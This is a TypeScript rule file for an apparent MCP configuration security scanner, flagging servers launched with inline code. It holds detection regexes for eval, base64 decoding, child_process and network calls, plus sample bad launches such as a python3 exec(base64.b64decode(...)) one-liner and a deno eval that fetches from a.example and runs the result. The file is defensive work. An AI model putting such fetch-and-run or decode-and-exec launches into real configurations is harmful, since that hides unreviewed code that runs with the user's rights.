import { valuesOf } from '../../../domain/command/words.ts';
import { entry } from '../../../domain/example.ts';
import type { Rule } from '../../../domain/rule.ts';
import type { Severity } from '../../../domain/severity.ts';
import { localLaunch, notLocal } from './parts/launch.ts';

// One import and one call: what a start script does.
const STARTER =
  /^\s*(?:from [\w.]+ import [\w, ]+[;\n]\s*\w+\(\)|import [\w.]+[;\n]\s*[\w.]+\(\)|(?:await )?import\((["'])[^"']+\1\)|require\((["'])[^"']+\2\)(?:\.\w+\(\))?)\s*;?\s*$/;
const DISGUISE =
  /\beval\s*\(|\bexec\s*\(|\bFunction\s*\(|b64decode|atob\s*\(|['"]base64['"]|\bmarshal\b|\bzlib\b|__import__|(?:\\x[0-9a-f]{2}){4}/i;
const REACH =
  /child_process|\bexecSync\b|\bspawn\s*\(|\bos\.(?:system|popen)\b|\bsubprocess\b|\burlopen\b|\burllib\b|\brequests\.|\bfetch\s*\(|\bsocket\b|https?:\/\/|Kernel\.system|do shell script/;

export const rule: Rule<'config'> = {
  id: 'config/inline-code',
  severity: 'medium',
  confidence: 'high',
  title: 'Server is code that stands in the configuration',
  why: 'Code in an argument has no version, no author and no file that a scanner or a reviewer would look at, and it runs with the rights of the user at every start.',
  fix: 'Put the code into a file or a package under version control and start that.',
  controls: ['RUN-13', 'INT-03'],
  techniques: ['code-injection', 'shell-command-execution'],
  cwe: [94],
  top10: { csa: ['MCP-05', 'MCP-C07'], owasp: ['MCP05'] },
  examples: {
    bad: [
      entry({ command: 'node', args: ['-e', "require('http').createServer(handle).listen(3000)"] }),
      entry({
        command: 'python3',
        args: ['-c', 'import base64;exec(base64.b64decode("cHJpbnQoMSk="))'],
      }),
      entry({ command: ['deno', 'eval', "const r = await fetch('https://a.example'); run(r)"] }),
      entry({ command: 'node', args: ['--import', 'data:text/javascript,run()', '/srv/notes.js'] }),
      entry({ command: 'osascript', args: ['-e', 'do shell script "notes"'] }),
    ],
    good: [entry({ command: 'node', args: ['/srv/notes/server.js'] })],
    nearMiss: [
      entry({ command: 'node', args: ['/srv/notes/server.js', '-e', 'production'] }),
      entry({ command: 'python3', args: ['-m', 'notes', '-c', 'config.toml'] }),
      entry({ command: 'node', args: ['--env-file=.env', '/srv/notes/server.js'] }),
    ],
  },
  notApplicable: notLocal,
  *detect(subject) {
    const local = localLaunch(subject);
    if (local === undefined) return;
    for (const { code, options } of local.layers) {
      if (code !== undefined) {
        yield { at: local.place(code.at), shows: local.show(code.at), ...gradeOf(code.text) };
      }
      const module = valuesOf(options, ['--import', '-r', '--require', '--loader']).find(
        ({ text }) => /^data:/i.test(text),
      );
      if (module !== undefined) {
        const because = 'It is a module whose text is written as an address.';
        yield {
          at: local.place(module.at),
          shows: local.show(module.at),
          severity: 'high',
          because,
        };
      }
    }
  },
};

function gradeOf(code: string): { readonly severity: Severity; readonly because: string } {
  const start = code.slice(0, 20_000);
  if (DISGUISE.test(start)) {
    return { severity: 'high', because: 'It builds or decodes the code that it then runs.' };
  }
  if (REACH.test(start)) {
    return { severity: 'high', because: 'It starts programs or talks to the network.' };
  }
  if (start.length < 200 && STARTER.test(start)) {
    return { severity: 'low', because: 'Here it only loads a module and starts it.' };
  }
  return { severity: 'medium', because: `It is ${code.length} characters of code.` };
}
